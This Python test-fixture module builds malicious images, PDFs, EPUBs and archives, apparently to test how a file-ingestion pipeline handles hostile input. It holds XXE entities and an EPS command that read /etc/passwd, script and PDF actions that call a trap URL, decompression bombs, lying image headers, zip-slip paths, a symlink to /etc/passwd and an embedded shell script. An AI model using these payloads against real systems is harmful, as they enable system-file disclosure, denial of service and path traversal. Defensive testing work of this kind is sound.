"""Photos and archives that attack whoever opens them; each takes the address of a trap."""

import gzip
import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from tests import image_fixtures, pdf_fixtures
from tests.pdf_writer import PdfWriter, Stream

BOMB_BYTES = 80_000_000


def small_jpeg() -> bytes:
    """Return a grey JPEG of 64 by 48 pixels."""
    file = io.BytesIO()
    Image.new("RGB", (64, 48), (90, 90, 90)).save(file, "JPEG")
    return file.getvalue()


def _svg(trap: str) -> bytes:
    return (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image xlink:href="{trap}/x.png"/><script>fetch("{trap}")</script><text>&x;</text></svg>'
    ).encode()


def _jpeg_of_a_lying_size(_: str) -> bytes:
    """Return a JPEG whose header claims 65,500 pixels a side."""
    jpeg = bytearray(small_jpeg())
    frame = jpeg.index(b"\xff\xc0")
    jpeg[frame + 5 : frame + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(jpeg)


def _text_bomb(_: str) -> bytes:
    """Return a PNG with a compressed comment of many megabytes."""
    chunk = b"zTXt" + b"k\0\0" + zlib.compress(bytes(BOMB_BYTES), 9)
    comment = struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
    file = io.BytesIO()
    Image.new("L", (8, 8)).save(file, "PNG")
    png = file.getvalue()
    return png[:33] + comment + png[33:]


def _tiff_of_a_lying_size(_: str) -> bytes:
    """Return a TIFF whose only directory claims 2 gigapixels in one strip."""
    entries = [(256, 50_000), (257, 40_000), (258, 8), (259, 1), (262, 1), (273, 8), (279, 4)]
    fields = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries)
    return struct.pack("<2sHI", b"II", 42, 8) + struct.pack("<H", len(entries)) + fields + bytes(4)


PHOTOS: dict[str, Callable[[str], bytes]] = {
    "empty.jpg": lambda _: b"",
    "page.jpg": lambda trap: f"<script>fetch('{trap}')</script>".encode(),
    "drawing.svg": _svg,
    "vector.jpg": _svg,
    "animation.gif": lambda _: b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x00\x00\x00;",
    "bomb.png": lambda _: image_fixtures.lying_png(100_000, 100_000),
    "comment.png": _text_bomb,
    "bomb.jpg": _jpeg_of_a_lying_size,
    "bomb.tif": _tiff_of_a_lying_size,
    "circle.tif": lambda _: image_fixtures.chained_tiff(3, loops=True),
    "cut.jpg": lambda _: small_jpeg()[:300],
    "code.jpg": lambda _: b"\x7fELF" + bytes(500),
    "pickle.jpg": lambda _: pickle.dumps({"a": 1}),
    "script.eps": lambda _: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n",
    "packed.jpg": lambda _: gzip.compress(bytes(BOMB_BYTES)),
    "document.jpg": lambda _: pdf_fixtures.active_content(),
    "half.webp": lambda _: b"RIFF\xff\xff\xff\x7fWEBPVP8 " + bytes(40),
    "half.heic": lambda _: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\xff" * 60,
}
"""Photos that none can be judged by."""


def _zip(members: dict[str, bytes], *, link_to: str = "") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        if link_to:
            link = zipfile.ZipInfo("link.pdf")
            link.external_attr = 0o120777 << 16
            archive.writestr(link, link_to)
    return file.getvalue()


def _endless_tree(_: str) -> bytes:
    """Return a PDF whose page tree is its own child."""
    writer = PdfWriter()
    pages = writer.reserve()
    root = writer.add(f"<< /Type /Catalog /Pages {pages} 0 R >>")
    writer.set(pages, f"<< /Type /Pages /Count 9999999 /Kids [{pages} 0 R {pages} 0 R] >>")
    return writer.to_bytes(root)


def _embedded(trap: str) -> bytes:
    """Return a PDF with a file inside; on opening it follows a link and submits a form."""
    writer = PdfWriter()
    pages = writer.reserve()
    held = writer.add(Stream("/Type /EmbeddedFile", b"#!/bin/sh\ntouch owned\n"))
    action = f"<< /S /SubmitForm /F << /FS /URL /F ({trap}/form) >> >>"
    page = writer.add(
        f"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 200 300] /AA << /O {action} >> >>"
    )
    writer.set(pages, f"<< /Type /Pages /Count 1 /Kids [{page} 0 R] >>")
    specification = f"<< /Type /Filespec /F (owned.sh) /EF << /F {held} 0 R >> >>"
    root = writer.add(
        f"<< /Type /Catalog /Pages {pages} 0 R /OpenAction << /S /URI /URI ({trap}/open) >> "
        f"/Names << /EmbeddedFiles << /Names [(owned.sh) {specification}] >> >> >>"
    )
    return writer.to_bytes(root)


def _curious_book(trap: str) -> bytes:
    """Return an EPUB whose page asks for a file of the server and for an address."""
    page = (
        '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>&x;</p>'
        f'<img src="{trap}/x.png"/><img src="../../../etc/passwd"/><script>1</script></body></html>'
    )
    whole = io.BytesIO(image_fixtures.epub())
    with zipfile.ZipFile(whole) as book:
        members = {name: book.read(name) for name in book.namelist()}
    return _zip(members | {name: page.encode() for name in members if name.endswith(".xhtml")})


ARCHIVES: dict[str, Callable[[str], bytes]] = {
    "slip.zip": lambda _: _zip({"../../slipped.pdf": pdf_fixtures.blank(), "/abs.pdf": b"%PDF-"}),
    "bomb.zip": lambda _: _zip({"zeros.pdf": bytes(BOMB_BYTES)}),
    "nested.zip": lambda _: _zip({"in.zip": _zip({"in.zip": _zip({"a.pdf": b"%PDF-"})})}),
    "linked.zip": lambda _: _zip({}, link_to="/etc/passwd"),
    "cut.zip": lambda _: _zip({"a.pdf": pdf_fixtures.blank()})[:-30],
    "active.pdf": lambda _: pdf_fixtures.active_content(),
    "embedded.pdf": _embedded,
    "tree.pdf": _endless_tree,
    "lying.pdf": lambda _: pdf_fixtures.lying_page_count(),
    "cut.pdf": lambda _: pdf_fixtures.truncated(0.4),
    "polyglot.pdf": lambda _: small_jpeg() + pdf_fixtures.blank(),
    "bomb.png": lambda _: image_fixtures.lying_png(100_000, 100_000),
    "circle.tif": lambda _: image_fixtures.chained_tiff(3, loops=True),
    "curious.epub": _curious_book,
    "slip.cbz": lambda _: image_fixtures.comic_book({"../../../slipped.jpg": small_jpeg()}),
    "void.pdf": lambda _: b"",
}
"""Sources of a dataset that are not what they seem."""
